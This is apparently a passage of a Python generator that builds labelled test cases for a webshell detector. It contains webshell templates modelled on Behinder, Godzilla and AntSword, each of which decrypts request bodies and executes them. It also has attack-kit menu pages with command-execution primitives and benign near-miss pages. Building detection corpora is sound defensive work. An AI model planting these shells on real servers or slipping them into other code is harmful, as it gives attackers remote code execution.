        yield Case("family.antsword", f"form={index % 3}", "php", f"ant{index}.php", forms[index % 3].encode())

    for index in range(21):
        key = rng.choice([k("e45e329f§eb5d925b"), hashlib.md5(f"{index}".encode()).hexdigest()[:16]])
        forms = [
            (
                "php",
                '<?php\n@error_reporting(0);\nsession_start();\n$key="'
                + key
                + '";\n'
                + k("$_SESS§ION['k']=$key;\nsession_write_close();\n$post=file_get_contents(\"php://in§put\");\n")
                + k('if(!extension_loaded(\'openssl\')){$t="base64_"."dec§ode";$post=$t($post."");')
                + k("for($i=0;$i<strlen($post);$i++){$post[$i]=$post[$i]^$key[$i+1§&15];}}")
                + k('else{$post=openssl_dec§rypt($post,"AES128",$key);}\n')
                + k(
                    "$arr=explode('|',$post);$func=$arr[0];$params=$arr[1];\nclass C{public function __inv§oke($p){ev§al($p.\"\");}}\n"
                )
                + "@call_user_func(new C(),$params);\n?>",
            ),
            (
                "php",
                "<?php\n@error_reporting(0);\n"
                + k(
                    'function Dec§rypt($data){$key="'
                    + key
                    + '";return openssl_dec§rypt(base64_decode($data),"AES-128-ECB",$key,OPENSSL_PKCS1_PADDING);}\n'
                )
                + k('$post=Dec§rypt(file_get_contents("php://in§put"));\nev§al($post);\n?>'),
            ),
            (
                "jsp",
                k(
                    '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>'
                    "<%!class U extends Class§Loader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.define§Class(b,0,b.length);}}%>"
                    '<%if (request.getMethod().equals("POST")){String k="'
                    + key
                    + '";session.putV§alue("u",k);Cipher c=Cipher.getIn§stance("AES");'
                    'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
                    "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getRea§der().readLine()))).newInstance().equals(pageCon§text);}%>"
                ),
            ),
            (
                "php",
                "<?php\n@error_reporting(0);\nsession_start();\nif (isset($_GET['pass'])) {\n"
                + k(
                    "$key=substr(md5(uniqid(rand())),16);\n$_SESS§ION['k']=$key;\nprint $key;\n} else {\n$key=$_SESSION['k'];\n"
                )
                + k(
                    '$post=file_get_contents("php://in§put");\nif(!extension_loaded(\'openssl\')){$t="base64_"."dec§ode";$post=$t($post."");'
                )
                + k("for($i=0;$i<strlen($post);$i++){$post[$i]=$post[$i]^$key[$i+1§&15];}}")
                + k('else{$post=openssl_dec§rypt($post,"AES128",$key);}\n')
                + k(
                    "$arr=explode('|',$post);$func=$arr[0];$params=$arr[1];\nclass C{public function __construct($p){ev§al($p.\"\");}}\n@new C($params);\n}\n?>"
                ),
            ),
            (
                "jsp",
                k(
                    '<%@page import="java.util.*,java.io.*,javax.crypto.*,javax.crypto.spec.*"%>'
                    "<%!class U extends Class§Loader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.define§Class(b,0,b.length);}}"
                    'private byte[] Decrypt(byte[] data) throws Exception{String k="'
                    + key
                    + '";javax.crypto.Cipher c=javax.crypto.Cipher.getIn§stance("AES/ECB/PKCS5Padding");'
                    'c.init(2,new javax.crypto.spec.Secret§KeySpec(k.getBytes(),"AES"));'
                    'Class baseCls=Class.forName("java.util.Base64");Object Decoder=baseCls.getMethod("getDecoder",null).invoke(baseCls,null);'
                    'byte[] decodebs=(byte[])Decoder.getClass().getMethod("decode",new Class[]{byte[].class}).invoke(Decoder,new Object[]{data});'
                    "return c.doFinal(decodebs);}%>"
                    '<%if (request.getMethod().equals("POST")){ByteArrayOutputStream bos=new ByteArrayOutputStream();byte[] buf=new byte[512];'
                    "int length=request.getInputStream().read(buf);while(length>0){byte[] data=Arrays.copyOfRange(buf,0,length);bos.write(data);length=request.getInputStream().read(buf);}"
                    "new U(this.getClass().getClassLoader()).g(Decrypt(bos.toByteArray())).newInstance().equals(pageCon§text);}%>"
                ),
            ),
            (
                "aspx",
                k(
                    '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","'
                    + key
                    + '"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);'
                    'Assembly.Lo§ad(new System.Security.Cryptography.RijndaelManaged().CreateDec§ryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>'
                ),
            ),
            (
                "asp",
                k(
                    '<%\nResponse.CharSet = "UTF-8"\nk="'
                    + key
                    + '"\nSession("k")=k\nsize=Request.TotalBytes\ncontent=Request.Binary§Read(size)\nFor i=1 To size\n'
                    "result=result&Chr(ascb(midb(content,i,1)) Xor Asc(Mid(k,(i and 15)+1§,1)))\nNext\nExec§ute(result)\n%>\n"
                ),
            ),
        ]
        lang, text = forms[index % len(forms)]
        yield Case("family.behinder", f"form={index % len(forms)} key={key}", lang, f"bx{index}.{lang}", text.encode())

    for index in range(12):
        key = k("3c6e0b8a§9c15224a") if index % 2 else hashlib.md5(f"g{index}".encode()).hexdigest()[:16]
        pw = rng.choice(["pass", "p", "key1"])
        forms = [
            (
                "php",
                "<?php\n@session_start();\n@set_time_limit(0);\n@error_reporting(0);\n"
                + k(
                    "function encode($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i+1§&15];$D[$i]=$D[$i]^$c;}return $D;}\n"
                )
                + f"$pass='{pw}';\n"
                + k("$payload§Name='payload';\n")
                + f"$key='{key}';\n"
                + k("if(isset($_PO§ST[$pass])){$data=encode(base64_decode($_PO§ST[$pass]),$key);")
                + k("if(isset($_SES§SION[$payloadName])){$payload=encode($_SES§SION[$payloadName],$key);")
                + k('if(strpos($payload,"getBasics§Info")===false){$payload=encode($payload,$key);}ev§al($payload);')
                + k(
                    "echo substr(md§5($pass.$key),0,16);echo base64_encode(encode(@run($data),$key));echo substr(md§5($pass.$key),16);}"
                )
                + "}\n",
            ),
            (
                "jsp",
                k(
                    '<%! String xc="'
                    + key
                    + '"; String pass="'
                    + pw
                    + '"; String md5=md5(pass+xc); class X extends Class§Loader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.define§Class(cb, 0, cb.length);}}'
                    'public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getIn§stance("AES");c.init(m?§1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);}catch (Exception e){return null;}}%>'
                    '<%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payl§oad")==null){session.setAttribute("payl§oad",new X(this.getClass().getClassLoader()).Q(data));}'
                    'else{request.setAttri§bute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("payl§oad")).newInstance();'
                    "f.equals(arrOut);f.equals(pageCon§text);response.getWriter().write(md5.substr§ing(0,16));f.toString();response.getWriter().write(md5.substr§ing(16));} }catch (Exception e){}%>"
                ),
            ),
            (
                "aspx",
                k(
                    '<%@ Page Language="C#"%><%try { string key = "'
                    + key
                    + '"; string pass = "'
                    + pw
                    + '"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", "");'
                    "byte[] data = System.Convert.FromBase64String(Context.Request[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecr§yptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);"
                    'if (Context.Session["payl§oad"] == null) { Context.Session["payl§oad"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Lo§ad", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }'
                    'else { object o = ((System.Reflection.Assembly)Context.Session["payl§oad"]).CreateInstance("L§Y"); o.Equals(Context); o.ToString(); Context.Response.Write(md5.Subs§tring(0, 16)); Context.Response.Write(md5.Subs§tring(16)); } } catch (System.Exception) { }%>'
                ),
            ),
        ]
        lang, text = forms[index % len(forms)]
        yield Case("family.godzilla", f"form={index % len(forms)} key={key}", lang, f"gz{index}.{lang}", text.encode())


# ---------------------------------------------------------------- kits by their menu labels

MENU_LABELS = [
    "Port Sc§an",
    "Back Conn§ect",
    "Bind Po§rt",
    "Self Rem§ove",
    "Brute Fo§rce",
    "Mass Def§ace",
    "Sym§link",
    "Safe Mode By§pass",
    "端口§扫描",
    "反§弹Shell",
    "提§权",
    "自§删除",
    "批量§挂马",
    "清除§日志",
]
MENU_PRIMITIVES = {
    "php": ("<?php\n", "function run($c){return pass§thru($c);}\n", "?>\n"),
    "asp": ("<%\n", 'Set ws=Server.CreateObject("WScript.Sh§ell")\n', "%>\n"),
    "aspx": (
        '<%@ Page Language="C#" %>\n<script runat="server">\n',
        'void Run(string c){System.Diagnostics.Process.St§art("cmd",c);}\n',
        "</script>\n",
    ),
    "jsp": ("<%\n", 'Process p=Runtime.getRuntime().ex§ec(request.getParameter("c"));\n', "%>\n"),
}


def _menu_cases(rng: random.Random) -> Iterator[Case]:
    styles = [
        lambda label: f'<a href="#">{label}</a> | ',
        lambda label: f'<option value="{label}">{label}</option>\n',
        lambda label: f'<input type="submit" value="{label}">\n',
    ]
    for index in range(24):
        lang = sorted(MENU_PRIMITIVES)[index % 4]
        head, primitive, tail = MENU_PRIMITIVES[lang]
        labels = rng.sample(MENU_LABELS, rng.randint(6, 9))
        # distinct features: the Chinese and English labels of one feature count once, so take a few extra
        style = rng.choice(styles)
        menu = "".join(style(k(label)) for label in labels)
        text = f"<html><body><div class=menu>{menu}</div>\n{head}{k(primitive)}{tail}</body></html>\n"
        yield Case("kit.menu", f"labels={len(labels)} lang={lang}", lang, f"menu{index}.{lang}", text.encode())
    # near misses: a security-awareness page (labels, no code) and a panel with two attack labels
    page = "".join(f"<li>{k(label)}</li>" for label in MENU_LABELS)
    yield Case(
        "kit.menu",
        "near-miss awareness page",
        "php",
        "awareness.html",
        f"<html><body><ul>{page}</ul></body></html>\n".encode(),
        hit=False,
    )
    two = "".join(f"<a href=#>{k(label)}</a>" for label in ("Port Sc§an", "Brute Fo§rce"))
    text = (
        k(
            "<?php\n$ip = filter_var($_GET['ip'] ?? '', FILTER_VALIDATE_IP);\n$s = @fsock§open($ip, 80, $e, $es, 1);\n?>\n<nav>"
        )
        + two
        + "</nav>\n"
    )
    yield Case("kit.menu", "near-miss two labels and a socket", "php", "netcheck.php", text.encode(), hit=False)


# ---------------------------------------------------------------- near misses


def _near_misses(rng: random.Random) -> Iterator[Case]:
    pairs = [("files", "upload"), ("files", "recon"), ("db", "recon"), ("upload", "db"), ("files", "db")]
    safe_php = {
        "files": "foreach(scan§dir($base) as $f){echo htmlspecialchars($f),is_wri§table(\"$base/$f\")?' rw':'';}\n"
        "if(isset($_POST['del'])&&check_csrf()){un§link($base.'/'.basename($_POST['del']));}\n",
        "upload": "if(isset($_FILES['doc'])&&check_csrf()){move_uploaded§_file($_FILES['doc']['tmp_name'],$base.'/'.basename($_FILES['doc']['name']));}\n",
        "db": "$pdo=new P§DO($config['dsn'],$config['user'],$config['pass']);foreach($pdo->query('SHOW TA§BLES') as $r){echo h($r[0]);}\n",
        "recon": "echo h(php§_uname()),'<br>',h(ini_get('disable§_functions')),'<br>',h(ini_get('open§_basedir'));\n",
    }
    for index in range(20):
        a, b = pairs[index % len(pairs)]
        body = "".join(rng.sample([k(safe_php[a]), k(safe_php[b]), *PHP_PAD[:3]], 5))
        yield Case(
            "kit.php", f"near-miss caps={a}+{b}", "php", f"admin{index}.php", ("<?php\n" + body).encode(), hit=False
        )
    # four legitimate groups but no shell capability (a CMS admin page)
    body = "".join(k(v) for v in safe_php.values())
    yield Case(
        "kit.php",
        "near-miss four groups, no shell capability",
        "php",
        "cms-admin.php",
        ("<?php\n" + body).encode(),
        hit=False,
    )

    safe_asp = (
        '<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet fld = fso.GetFolder(Server.MapPath("docs"))\n'
        'Set conn = Server.CreateObject("ADODB.Connection")\nconn.Open "Provider=SQLOLEDB;Data Source=db"\n'
        'Set rs = conn.Execute("SELECT name FROM courses")\nResponse.Write Request.ServerVariables("SERVER_SOFTWARE")\n%>\n'
    )
    safe_aspx = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void List(string d) { foreach (string f in Directory.GetFiles(d)) Response.Write(f); }\n"
        'void Up() { FileUpload1.PostedFile.SaveAs(Server.MapPath("~/docs/") + Path.GetFileName(FileUpload1.FileName)); }\n'
        'void Sql() { var cn = new SqlConnection(cs); cn.Open(); new SqlCommand("SELECT 1", cn).ExecuteReader(); }\n</script>\n'
    )
    safe_jsp = (
        '<%@ page import="java.sql.*,java.io.*" %>\n<%\nString term = request.getParameter("term");\n'
        'Connection cn = DriverManager.getConnection("jdbc:mysql://db/school");\n'
        'ResultSet rs = cn.createStatement().executeQuery("SELECT * FROM grades");\n'
        'for (File f : new File(application.getRealPath("/reports")).listFiles()) { out.println(f.getName()); }\n%>\n'
    )
    for index in range(5):
        yield Case(
            "kit.asp",
            f"near-miss fso+db n={index}",
            "asp",
            f"files{index}.asp",
            (PHP_PAD[0] * 0 + safe_asp).encode(),
            hit=False,
        )
        yield Case(
            "kit.aspx",
            f"near-miss files+upload+db n={index}",
            "aspx",
            f"docs{index}.aspx",
            safe_aspx.encode(),
            hit=False,
        )
        yield Case(
            "kit.jsp", f"near-miss jdbc+files n={index}", "jsp", f"report{index}.jsp", safe_jsp.encode(), hit=False
        )

    mentions = [
        "<?php\n// Security notes: block WSO, c99shell, r57shell, b374k, phpspy, Alfa, IndoXploit uploads (中国菜刀, 冰蝎, 哥斯拉, 蚁剑).\n"
        "// WSO's default action is FilesMan; c99 stores its state in a cookie.\n$blocked = array('Files§Man', 'c99§shvars');\n",
        '<%@ Page Language="C#" %>\n<%-- audit page: look for ASPXSpy, JspSpy and Behinder (冰蝎) leftovers --%>\n'
        '<script runat="server">protected void Save_Click(object s, EventArgs e) { }</script>\n',
        '<%@ page import="java.util.*" %>\n<%-- not JspSpy: our login page. Godzilla (哥斯拉) payloads use "pass" --%>\n'
        '<% session.setAttribute("user", request.getRemoteUser()); %>\n',
        "<?php\n// The r57 and b374k shells carry back-connect code; our WAF drops it.\n$lang = array('title' => 'Security');\n",
    ]
    for index, marked in enumerate(mentions):
        text = k(marked)
        family = ["family.wso", "family.aspxspy", "family.jspspy", "family.r57"][index]
        ext = ["php", "aspx", "jsp", "php"][index]
        yield Case(family, "near-miss names in comments", ext, f"notes{index}.{ext}", text.encode(), hit=False)

    # a large encoded blob decoded into a cache file, nothing evaluated
    for index in range(4):
        data = _php_padding(rng, 500).encode()
        blob = base64.b64encode(zlib.compress(data, 9)).decode()
        text = f"<?php\n$font = '{blob}';\nfile_put_contents(__DIR__ . '/cache/f{index}.bin', gzuncompress(base64_decode($font)));\n"
        yield Case("kit.packed", "near-miss blob to cache", "php", f"font{index}.php", text.encode(), hit=False)


def cases() -> Iterator[Case]:
    rng = random.Random(SEED)
    yield from _kit_cases(rng)
    yield from _packed_cases(rng)
    yield from _marker_cases(rng)
    yield from _tool_cases(rng)
    yield from _menu_cases(rng)
    yield from _near_misses(rng)
